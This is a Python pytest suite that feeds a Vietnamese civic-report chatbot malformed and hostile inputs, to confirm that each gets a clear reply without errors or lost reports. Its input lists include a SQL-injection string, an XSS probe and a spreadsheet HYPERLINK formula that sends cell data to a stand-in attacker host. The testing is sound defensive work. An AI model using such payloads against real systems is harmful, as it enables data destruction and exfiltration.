"""What a hostile tester types, answered like anything else: every command (taken from the
router, so a new one is covered the day it is added) with missing, extra and absurd
arguments, from a citizen and from an admin who may run everything, and the bad inputs of
issue #11. Each message gets a clear reply (never the generic apology), nothing reaches
the log as an error or a traceback, no report is lost, and the next message is answered."""

from __future__ import annotations

import logging
from pathlib import Path

import pytest
from sqlalchemy import func, select

from handlers.app import build_router
from handlers.dispatcher import Policy
from handlers.i18n import t
from storage.reports import Report
from tests.chat import Chat
from tests.queue import advance, file_report
from tests.staff import ADMIN, CITIZEN, staffed_chat

COMMANDS = sorted(build_router().commands)
APOLOGY = t("vi", "core.error")
ABSURD = (  # what reaches a command; what the input layer refuses is in BAD_MESSAGES
    "",
    "x" * 3_900,
    "PA-\x00\x00 \x00",
    "\u202e\u200fPA-7K3M9QX2\u200f STP",
    "9" * 40 + " -1 -99999999999999999999 1e309 ١٢٣",
    "'; DROP TABLE reports; -- <script>alert(1)</script> &amp; {code} %s {0}",
    "PA-00000000 STP too many words here officer admin moderator yes no up down",
    '{real} {real} ＝HYPERLINK("http://x") ٣',
    "{real}",
)
AS_CITIZEN = ("", "{real} {real}")  # refused by role, or the citizen's own commands
# Reloads the whole knowledge base (two seconds of CPU) and reads no argument: from the
# admin, the longest argument is enough (without one it is tested in test_admin.py).
FEW = {"faq_reload": ABSURD[1:2]}
BAD_MESSAGES = (
    "x" * 10_000,
    "/report " + "x" * 10_000,
    "\ud800 /approve PA-7K3M9QX2",
    '=HYPERLINK("http://attacker.invalid/?"&A1,"bấm")',
    "١",
    "\x00",
    "\ud83d",
    "\u202e",
    "   \n\t ",
    "/",
    "//",
    "/\x00",
    "/" + "a" * 3000,
    "/vote " + "9" * 400 + " up",
    "/nosuch@other_bot arg",
)


@pytest.fixture
async def chat(sessions, tmp_path: Path) -> Chat:
    policy = Policy(
        admins=frozenset({("telegram", ADMIN)}),
        flood_exempt=frozenset({"telegram", "zalo"}),  # the flood limit is tested elsewhere
    )
    return await staffed_chat(sessions, tmp_path, policy=policy)


async def _reports(sessions) -> int:
    async with sessions() as session:
        return await session.scalar(select(func.count()).select_from(Report))


def _errors(caplog: pytest.LogCaptureFixture) -> list[str]:
    return [
        f"{r.levelname} {r.name}: {r.getMessage()}"
        for r in caplog.records
        if r.levelno >= logging.ERROR or r.exc_info
    ]


async def _answered(chat: Chat, text: str, user: str) -> bool:
    """Send ``text``, check the replies; whether they offered options (a dialogue may be
    waiting for an answer)."""
    replies = await chat.say(text, user=user)
    assert replies, f"no reply to {text[:80]!r} from {user}"
    for reply in replies:
        assert reply.text.strip() and reply.text != APOLOGY, (text[:80], reply.text)
    return any(reply.options for reply in replies)


@pytest.mark.parametrize("command", COMMANDS)
async def test_every_command_with_absurd_arguments(sessions, chat, caplog, command) -> None:
    caplog.set_level(logging.WARNING)
    real = await file_report(sessions, chat.clock.now)
    answered = await file_report(sessions, chat.clock.now)
    await advance(sessions, answered, chat.clock.now, answer="Đã xử lý.")
    before = await _reports(sessions)
    for user, cases in ((CITIZEN, AS_CITIZEN), (ADMIN, FEW.get(command, ABSURD))):
        for args in cases:
            text = f"/{command} {args.replace('{real}', real)}".rstrip()
            if await _answered(chat, text, user):
                await chat.say("/cancel", user=user)  # leave any dialogue it started
    assert _errors(caplog) == []
    assert await _reports(sessions) == before
    [alive] = await chat.say("/help", user=CITIZEN)
    assert alive.text.startswith("Các lệnh")


@pytest.mark.parametrize("text", BAD_MESSAGES)
async def test_bad_messages_get_a_clear_reply(sessions, chat, caplog, text) -> None:
    caplog.set_level(logging.WARNING)
    await file_report(sessions, chat.clock.now)
    await chat.say("/lang en", user=CITIZEN)
    await chat.say("/lang vi", user=CITIZEN)  # a menu-less start; then one with options
    await chat.say("/forget", user=CITIZEN)
    await _answered(chat, text, CITIZEN)
    await _answered(chat, text, ADMIN)
    assert _errors(caplog) == []
    assert await _reports(sessions) == 1
    [alive] = await chat.say("/help", user=CITIZEN)
    assert alive.text.startswith("Các lệnh")
